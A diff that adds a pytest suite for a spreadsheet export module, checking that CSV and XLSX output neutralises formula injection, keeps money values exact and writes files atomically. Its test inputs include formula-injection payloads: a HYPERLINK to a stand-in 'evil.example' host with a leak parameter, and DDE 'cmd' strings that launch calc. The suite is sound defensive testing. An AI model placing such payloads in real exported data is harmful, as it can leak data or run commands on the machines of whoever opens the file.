@@ -1,0 +1,99 @@
+"""export: every CSV and XLSX is safe to open in a spreadsheet (no formula runs), exact, and written whole."""
+from __future__ import annotations
+
+import csv
+from decimal import Decimal
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from recon_helpers import export
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?leak=1","点这里")', "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_would_be_formula_gets_a_leading_quote_and_keeps_its_text(payload):
+    assert export.neutralise(payload) == "'" + payload
+    assert export.neutralise(export.neutralise(payload)) == "'" + payload, "neutralising twice changes nothing more"
+
+
+@pytest.mark.parametrize("value", ["-12.50", "+5", "-1,234.50", "12", "顺丰速运", "", "a=b", "'=1+1"])
+def test_numbers_and_ordinary_text_stay_as_they_are(value):
+    assert export.neutralise(value) == value
+    assert export.neutralise(-3) == -3 and export.neutralise(Decimal("-1.00")) == Decimal("-1.00")
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_csv_neutralises_text_cells_and_headers_but_not_numbers(tmp_path):
+    frame = pd.DataFrame({
+        "memo": PAYLOADS,
+        "amount": [Decimal("-1000.00")] * len(PAYLOADS),
+        "text_number": ["-5.00"] * len(PAYLOADS),
+        "=evil": ["x"] * len(PAYLOADS),
+    })
+    path = export.write_csv(frame, tmp_path / "out.csv")
+    assert path.read_bytes().startswith(export.BOM.encode())
+    rows = read_csv(path)
+    assert [r["memo"] for r in rows] == ["'" + p for p in PAYLOADS]
+    assert {r["amount"] for r in rows} == {"-1000.00"} and {r["text_number"] for r in rows} == {"-5.00"}
+    assert list(rows[0]) == ["memo", "amount", "text_number", "'=evil"]
+    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"], "no temporary file is left behind"
+
+
+def test_a_failed_write_keeps_the_previous_file(tmp_path):
+    target = tmp_path / "kept.csv"
+    export.write_csv(pd.DataFrame({"a": ["old"]}), target)
+    with pytest.raises(TypeError):
+        export.write_csv(object(), target)  # type: ignore[arg-type]
+    with pytest.raises(RuntimeError), export.atomic_path(target) as temp:
+        temp.write_text("half a fi", encoding="utf-8")
+        raise RuntimeError("killed")
+    assert read_csv(target) == [{"a": "old"}]
+    assert [p.name for p in tmp_path.iterdir()] == ["kept.csv"]
+
+
+def test_xlsx_has_typed_cells_frozen_header_filters_money_and_exact_totals(tmp_path):
+    frame = pd.DataFrame({
+        "side": ["left", "right", "right"],
+        "key": ["=1+1", "SF1402318000546", "@x"],
+        "amount": [Decimal("12.50"), Decimal("-0.10"), Decimal("1000.01")],
+        "source_row": [3, 4, 5],
+    })
+    path = export.write_xlsx({"billed_not_shipped 计费未发货": frame, "empty": frame.iloc[0:0]}, tmp_path / "r.xlsx",
+                             totals_by="side")
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["billed_not_shipped 计费未发货", "empty"]
+    ws = book["billed_not_shipped 计费未发货"]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula cell"
+    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:D4"
+    assert [ws.cell(r, 2).value for r in (2, 3, 4)] == ["'=1+1", "SF1402318000546", "'@x"]
+    assert ws["C2"].value == 12.5 and ws["C2"].number_format == export.MONEY_FORMAT
+    assert ws["D2"].value == 3, "counts stay numbers"
+    totals = {ws.cell(r, 1).value: ws.cell(r, 3).value for r in range(6, ws.max_row + 1)}
+    assert totals == {"合计 Total · left (1)": 12.5, "合计 Total · right (2)": 999.91, "合计 Total (3)": 1012.41}
+    assert book["empty"]["A3"].value == "合计 Total (0)"
+
+
+def test_sheet_names_are_valid_and_unique():
+    taken: set[str] = set()
+    assert export.sheet_name("a/b:c?", taken) == "a_b_c_"
+    long = "x" * 40
+    assert export.sheet_name(long, taken) == "x" * 31
+    assert export.sheet_name(long, taken) == "x" * 27 + " (2)"
+
+
+def test_a_table_longer_than_a_sheet_continues_on_the_next(tmp_path, monkeypatch):
+    monkeypatch.setattr(export, "MAX_SHEET_ROWS", 3)
+    frame = pd.DataFrame({"key": list("abcdefg"), "amount": [Decimal("1.00")] * 7})
+    book = openpyxl.load_workbook(export.write_xlsx({"rows": frame}, tmp_path / "long.xlsx"))
+    assert book.sheetnames == ["rows", "rows (2)", "rows (3)"]
+    assert [book[n].cell(book[n].max_row, 2).value for n in book.sheetnames] == [3.0, 3.0, 1.0]
